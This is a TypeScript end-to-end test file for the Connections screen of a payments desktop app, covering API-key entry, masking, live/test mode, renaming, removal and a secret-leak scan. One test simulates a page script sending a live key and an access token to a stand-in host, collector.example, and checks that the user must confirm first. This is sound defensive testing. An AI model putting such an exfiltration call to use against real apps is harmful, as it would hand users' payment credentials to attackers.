import { randomBytes } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { currentCspViolations, startHarness, type Harness } from './harness'
import { scanHarness } from './secrets-leak-scan'
import { present } from '../helpers/present'

/**
 * The Connections screen end to end: add a test key the sandbox knows, test it, switch to it from
 * the status bar, rename, remove; a live key puts the whole window in live mode; refused input
 * explains itself and stores nothing. Finally no secret may be found anywhere it could leak.
 */

const token = () => randomBytes(16).toString('hex') // letters and digits, as the sandbox requires
const SANDBOX_KEY = `test_sbx${token()}` // first test key: the built-in Sandbox connection's
const TEST_KEY = `test_${token()}`
const LIVE_KEY = `live_${token()}`
const UNKNOWN_KEY = `test_${token()}` // well-formed, but the sandbox does not know it
const ORG_TOKEN = `access_${token()}`
const SECRETS = [SANDBOX_KEY, TEST_KEY, LIVE_KEY, UNKNOWN_KEY, ORG_TOKEN]
const tail = (secret: string) => secret.slice(-4)

describe('Connections screen in Chromium', () => {
  let h: Harness
  let sandboxUrl: string

  beforeAll(async () => {
    h = await startHarness({
      name: 'connections',
      deps: { sandboxOptions: { keys: [SANDBOX_KEY, TEST_KEY, LIVE_KEY, ORG_TOKEN] } },
    })
  })

  afterAll(async () => {
    await h?.close()
  })

  const row = (label: string) => h.page.locator(`[data-testid^="connection-row-"][data-label="${label}"]`)
  const statusLabel = () => h.page.getByTestId('connection-status-label').textContent()
  const statusMode = () => h.page.getByTestId('connection-status-mode').textContent()
  const storedCount = async () => (await h.services.connections.list()).connections.length

  async function fillAdd(label: string, secret: string): Promise<void> {
    await h.page.getByTestId('add-label').fill(label)
    await h.page.getByTestId('add-secret').fill(secret)
  }

  async function useSandboxAddress(): Promise<void> {
    const form = h.page.getByTestId('add-connection-form')
    if (!(await form.locator('details.conn-advanced').evaluate((d) => (d as HTMLDetailsElement).open))) {
      await form.getByText('Advanced: API address').click()
    }
    await h.page.getByTestId('add-use-sandbox-url').click()
    expect(await h.page.getByTestId('add-base-url').inputValue()).toBe(sandboxUrl)
  }

  it('starts on the built-in Sandbox in test mode', async () => {
    await h.page.getByTestId('connection-status-label').waitFor()
    expect(await statusLabel()).toBe('Sandbox')
    expect(await statusMode()).toBe('TEST')
    expect(await h.page.evaluate(() => document.documentElement.dataset['mode'])).toBe('test')
  })

  it('lists the Sandbox, which cannot be removed, and tests it against the local sandbox', async () => {
    await h.page.keyboard.press('Control+4')
    const sandbox = h.page.getByTestId('connection-row-sandbox')
    await sandbox.waitFor()
    expect(await sandbox.getByTestId('active-mark').count()).toBe(1)
    expect(await sandbox.getByTestId('connection-remove').count()).toBe(0)
    expect(await sandbox.getByTestId('connection-rename').count()).toBe(0)
    const clickedAt = Date.now()
    await sandbox.getByTestId('connection-test').click()
    await h.page.getByTestId('connection-test-row-sandbox').getByTestId('connection-test-ok').waitFor()
    // After its first use the Sandbox shows its key's tail and its address.
    await sandbox
      .getByTestId('connection-masked')
      .filter({ hasText: tail(SANDBOX_KEY) })
      .waitFor()
    const view = present((await h.services.connections.list()).connections.find((c) => c.id === 'sandbox'))
    expect(view.baseUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/v2$/)
    sandboxUrl = present(view.baseUrl)
    // The list says where each connection sends its requests.
    await expect(sandbox.getByTestId('connection-address').textContent()).resolves.toBe(
      new URL(present(view.baseUrl)).host,
    )
    // When it was last used, in full in the title (local time, then ISO). The app's background sync
    // uses the Sandbox too, and the list is not reloaded for that: the time shown is the test's own
    // use or a later one, and not after the newest use main knows of.
    await sandbox.getByTestId('connection-last-used').waitFor()
    const title = present(await sandbox.getByTestId('connection-last-used').getAttribute('title'))
    const shown = present(/ \(([^)]+)\)$/.exec(title)?.[1])
    const newest = present(
      (await h.services.connections.list()).connections.find((c) => c.id === 'sandbox')?.lastUsedAt,
    )
    expect(new Date(shown).toISOString()).toBe(shown)
    expect(title.length).toBeGreaterThan(shown.length + 3)
    expect(Date.parse(shown)).toBeGreaterThanOrEqual(clickedAt)
    expect(Date.parse(shown)).toBeLessThanOrEqual(Date.parse(newest))
    await h.screenshot('list')
  })

  it('explains a key of another provider and stores nothing', async () => {
    const foreign = `sk_live_${token()}`
    await fillAdd('Wrong provider', foreign)
    const detected = h.page.getByTestId('add-detected')
    expect(await detected.getAttribute('data-kind')).toBe('none')
    expect(await detected.textContent()).toContain('another payment provider')
    await h.page.getByTestId('add-submit').click()
    expect(await h.page.getByTestId('add-secret-error').textContent()).toContain('test_… or live_…')
    expect(await storedCount()).toBe(1)

    await h.page.getByTestId('add-secret').fill(`pk_${token()}`)
    expect(await detected.textContent()).toContain('does not look like a credential')
    // Main refuses it too, should anything bypass the form (spec 5.1 prefixes).
    const direct = await h.page.evaluate(
      (secret) => window.paydesk.connections.add({ label: 'Direct', secret }),
      `pk_${token()}`,
    )
    expect(direct).toMatchObject({ ok: false, error: { code: 'invalid-input', issues: [{ path: 'secret' }] } })
    expect(await storedCount()).toBe(1)
  })

  it('refuses a key pasted into the name, which is stored in plain text', async () => {
    const pasted = `live_${token()}`
    await fillAdd(pasted, `test_${token()}`)
    await h.page.getByTestId('add-submit').click()
    expect(await h.page.getByTestId('add-label-error').textContent()).toContain('looks like a key or token')
    expect(await storedCount()).toBe(1)
    await h.page.getByTestId('add-label').fill('')
  })

  it('asks an organization token for its profile id and refuses it without one', async () => {
    await fillAdd('Agency token', `access_${token()}`)
    const detected = h.page.getByTestId('add-detected')
    expect(await detected.getAttribute('data-kind')).toBe('organization-token')
    expect(await detected.textContent()).toContain('Organization token — needs a profile id')
    await h.page.getByTestId('add-profile-id').waitFor()
    expect(await h.page.getByTestId('add-testmode').isChecked()).toBe(true)
    await h.page.getByTestId('add-submit').click()
    expect(await h.page.getByTestId('add-profileId-error').textContent()).toContain('need the profile id')
    await h.screenshot('add-form-token-refused')
    // The focus goes to the field to fix.
    expect(await h.page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('add-profile-id')
    const direct = await h.page.evaluate(
      (secret) => window.paydesk.connections.add({ label: 'Direct token', secret }),
      `access_${token()}`,
    )
    expect(direct).toMatchObject({ ok: false, error: { code: 'invalid-input', issues: [{ path: 'profileId' }] } })
    expect(await storedCount()).toBe(1)
  })

  it('lets an organization token pick its profile from the list fetched with it (GET /v2/profiles)', async () => {
    await fillAdd('Agency token', ORG_TOKEN)
    await useSandboxAddress()
    await h.page.getByTestId('add-find-profiles').click()
    const choice = h.page.getByTestId('add-profile-choice')
    await choice.waitFor()
    await expect(choice.textContent()).resolves.toContain('Sandbox shop')
    // One profile: it is chosen at once; the id field shows it.
    await expect.poll(() => h.page.getByTestId('add-profile-id').inputValue()).toMatch(/^pfl_/)
    await h.screenshot('add-form-token-profiles')
    // A token the service does not know gets the service's answer, and nothing is stored.
    await h.page.getByTestId('add-secret').fill(`access_${token()}`)
    await h.page.getByTestId('add-find-profiles').click()
    await expect.poll(() => h.page.getByTestId('add-profiles-error').textContent()).toMatch(/401|authenticat/i)
    expect(await storedCount()).toBe(1)
    await h.page.getByTestId('add-label').fill('')
    await h.page.getByTestId('add-secret').fill('')
  })

  it('detects a test key while typing, keeps it masked, and clears it once added', async () => {
    await fillAdd('Bakery Jansen', TEST_KEY)
    const detected = h.page.getByTestId('add-detected')
    expect(await detected.getAttribute('data-kind')).toBe('api-key')
    expect(await detected.textContent()).toContain('never send profileId or testmode')
    expect(await h.page.getByTestId('add-profile-id').count()).toBe(0)
    const secretField = h.page.getByTestId('add-secret')
    expect(await secretField.getAttribute('type')).toBe('password')
    await h.page.getByTestId('add-secret-toggle').click()
    expect(await secretField.getAttribute('type')).toBe('text')
    await h.page.getByTestId('add-secret-toggle').click()
    expect(await secretField.getAttribute('type')).toBe('password')
    await useSandboxAddress()
    await h.screenshot('add-form-detected')

    await h.page.getByTestId('add-submit').click()
    await h.page.getByTestId('connection-added').waitFor()
    expect(await secretField.inputValue()).toBe('')
    expect(await secretField.getAttribute('type')).toBe('password')
    expect(await h.page.getByTestId('add-label').inputValue()).toBe('')
    const added = row('Bakery Jansen')
    expect(await added.getByTestId('connection-masked').textContent()).toBe(`test_…${tail(TEST_KEY)}`)
    expect(await added.getByTestId('connection-mode').textContent()).toBe('TEST')
    expect(await storedCount()).toBe(2)
  })

  it('tests the new key against the sandbox', async () => {
    await row('Bakery Jansen').getByTestId('connection-test').click()
    const id = present(await row('Bakery Jansen').getAttribute('data-testid')).replace('connection-row-', '')
    const result = h.page.getByTestId(`connection-test-row-${id}`)
    await result.getByTestId('connection-test-ok').waitFor()
    expect(await result.textContent()).toContain('test mode')
  })

  it('switches to it from the status bar with the keyboard', async () => {
    const button = h.page.getByTestId('connection-status')
    await button.focus()
    await h.page.keyboard.press('Enter')
    const switcher = h.page.getByTestId('connection-switcher')
    await switcher.waitFor()
    // Escape closes and gives the focus back.
    await h.page.keyboard.press('Escape')
    await switcher.waitFor({ state: 'detached' })
    expect(await h.page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('connection-status')

    await h.page.keyboard.press('ArrowUp') // opens too
    await switcher.waitFor()
    // The focus starts on the active one (Sandbox, first); the next is the new key.
    await h.page.keyboard.press('ArrowDown')
    expect(await h.page.evaluate(() => document.activeElement?.textContent)).toContain('Bakery Jansen')
    await h.screenshot('status-switcher')
    await h.page.keyboard.press('Enter')
    await switcher.waitFor({ state: 'detached' })
    await h.page.getByTestId('connection-status-label').filter({ hasText: 'Bakery Jansen' }).waitFor()
    expect(await statusMode()).toBe('TEST')
    expect((await h.services.connections.activeConnection()).label).toBe('Bakery Jansen')
    expect(await row('Bakery Jansen').getByTestId('active-mark').count()).toBe(1)
  })

  it('renames inline: Escape cancels, Enter saves', async () => {
    await row('Bakery Jansen').getByTestId('connection-rename').click()
    const input = h.page.getByTestId('rename-input')
    await input.fill('Something else')
    await h.page.keyboard.press('Escape')
    await input.waitFor({ state: 'detached' })
    expect(await row('Bakery Jansen').count()).toBe(1)

    await row('Bakery Jansen').getByTestId('connection-rename').click()
    await input.fill('Sandbox')
    await h.page.keyboard.press('Enter')
    expect(await h.page.getByTestId('rename-error').textContent()).toContain('already a connection named')

    await input.fill('Bakery Jansen NL')
    await h.page.keyboard.press('Enter')
    await row('Bakery Jansen NL').waitFor()
    await h.page.getByTestId('connection-status-label').filter({ hasText: 'Bakery Jansen NL' }).waitFor()
  })

  it('shows live mode across the window after switching to a live key', async () => {
    await fillAdd('Bakery live', LIVE_KEY)
    expect(await h.page.getByTestId('add-detected').textContent()).toContain(
      'Live API key — bound to one profile; Paydesk will never send profileId or testmode',
    )
    await useSandboxAddress()
    await h.page.getByTestId('add-submit').click()
    await h.page.getByTestId('connection-added').waitFor()
    const live = row('Bakery live')
    expect(await live.getByTestId('connection-mode').textContent()).toBe('LIVE')
    expect(await live.getByTestId('connection-masked').textContent()).toBe(`live_…${tail(LIVE_KEY)}`)

    await h.page.getByTestId('connection-status').click()
    await h.page.getByTestId('connection-switcher').getByText('Bakery live').click()
    await h.page.getByTestId('connection-status-label').filter({ hasText: 'Bakery live' }).waitFor()
    expect(await statusMode()).toBe('LIVE')
    expect(await h.page.evaluate(() => document.documentElement.dataset['mode'])).toBe('live')
    expect(await h.page.getByTestId('live-banner').isVisible()).toBe(true)
    // The LIVE indicator has the live colour: not the test accent, and not the error/delete red.
    const colour = await h.page.getByTestId('connection-status').evaluate((e) => getComputedStyle(e).backgroundColor)
    expect(colour).toBe('rgb(107, 63, 160)')
    // Primary buttons keep their normal look in live mode; write buttons carry a LIVE badge instead.
    await h.page
      .getByRole('navigation', { name: 'Sections' })
      .getByRole('button', { name: /^Orders/ })
      .click()
    const create = h.page.getByTestId('create')
    const accent = await create.evaluate((e) => getComputedStyle(e).backgroundColor)
    expect(accent).not.toBe('rgb(192, 50, 43)')
    expect(await create.evaluate((e) => getComputedStyle(e, '::after').content)).toBe('"LIVE"')
    await h.screenshot('live-orders')
    await h.page
      .getByRole('navigation', { name: 'Sections' })
      .getByRole('button', { name: /^Connections/ })
      .click()
    expect((await h.services.connections.activeConnection()).isLive).toBe(true)
    await h.screenshot('live-mode')

    // Back to test mode through the row's Use button.
    await row('Bakery Jansen NL').getByTestId('connection-use').click()
    await h.page.getByTestId('connection-status-label').filter({ hasText: 'Bakery Jansen NL' }).waitFor()
    expect(await h.page.evaluate(() => document.documentElement.dataset['mode'])).toBe('test')
  })

  it('shows the service error of a key it does not know, with a link to the inspector entry', async () => {
    await fillAdd('Revoked key', UNKNOWN_KEY)
    await useSandboxAddress()
    await h.page.getByTestId('add-submit').click()
    await row('Revoked key').waitFor()
    await row('Revoked key').getByTestId('connection-test').click()
    const id = present(await row('Revoked key').getAttribute('data-testid')).replace('connection-row-', '')
    const error = h.page.getByTestId(`connection-test-row-${id}`).getByTestId('connection-test-error')
    await error.waitFor()
    expect(await error.textContent()).toContain('HTTP 401')
    // One test result on screen at a time, the error said once, and a refused key is never "used".
    await expect(h.page.locator('.conn-test-result').count()).resolves.toBe(1)
    expect(present(await error.textContent()).split('Missing authentication').length - 1).toBeLessThanOrEqual(1)
    await expect(row('Revoked key').getByText('never').count()).resolves.toBe(1)
    await error.getByTestId('connection-test-inspect').click()
    await expect(h.page.getByRole('heading', { level: 1 }).first().textContent()).resolves.toBe('Inspector')
    await h.page.keyboard.press('Control+4')
    await row('Revoked key').waitFor()
  })

  it('removes a connection after a confirmation naming its label and masked key', async () => {
    await row('Bakery Jansen NL').getByTestId('connection-remove').click()
    const dialog = h.page.getByTestId('remove-dialog')
    await dialog.waitFor()
    const text = await dialog.textContent()
    expect(text).toContain('Bakery Jansen NL')
    expect(text).toContain(`test_…${tail(TEST_KEY)}`)
    expect(text).toContain('active connection') // it is the active one
    await h.screenshot('remove-dialog')
    await h.page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
    expect(await row('Bakery Jansen NL').count()).toBe(1)

    await row('Bakery Jansen NL').getByTestId('connection-remove').click()
    await dialog.getByTestId('remove-confirm').click()
    await dialog.waitFor({ state: 'detached' })
    await row('Bakery Jansen NL').waitFor({ state: 'detached' })
    // The active connection went back to the Sandbox.
    await h.page.getByTestId('connection-status-label').filter({ hasText: 'Sandbox' }).waitFor()
    const labels = (await h.services.connections.list()).connections.map((c) => c.label)
    expect(labels).toEqual(['Sandbox', 'Bakery live', 'Revoked key'])
  })

  it('a page script cannot send a key to a foreign https host: refused unless main’s own dialog says yes (issue 22 item 2)', async () => {
    const before = (await h.services.connections.list()).connections.length
    const asked = h.questions.length
    const attempt = () =>
      h.page.evaluate(async () => {
        const api = window.paydesk.connections
        const add = await api.add({
          label: 'Exfil',
          secret: 'live_PageExfiltratedKey00001',
          baseUrl: 'https://collector.example/v2',
        })
        const profiles = await api.profiles({
          secret: 'access_PageExfiltratedToken01',
          baseUrl: 'https://collector.example/v2',
        })
        return [add.ok ? 'ok' : add.error.code, profiles.ok ? 'ok' : profiles.error.code]
      })
    expect(await attempt()).toEqual(['canceled', 'canceled'])
    expect(h.questions.slice(asked).map((q) => [q.kind, q.message])).toEqual([
      ['foreign-host', 'Save a connection that sends a LIVE API key to collector.example?'],
      ['foreign-host', 'Send an organization access token to collector.example to list its profiles?'],
    ])
    expect((await h.services.connections.list()).connections).toHaveLength(before)
    // The person said yes to the first question (their own server): only then is the connection saved.
    h.dialogAnswers.push(1)
    const [added] = await attempt()
    expect(added).toBe('ok')
    expect((await h.services.connections.list()).connections).toHaveLength(before + 1)
  })

  it('leaks no secret to the renderer, the DOM, web storage or the data directory', async () => {
    const { findings, files } = await scanHarness(h, SECRETS)
    expect(findings).toEqual([])
    expect(files.length).toBeGreaterThan(0) // the scan did read the saved connections
  })

  it('ran with no console errors and no CSP violations', async () => {
    expect(await currentCspViolations(h.page)).toEqual([])
    expect(h.consoleErrors).toEqual([])
  })
})
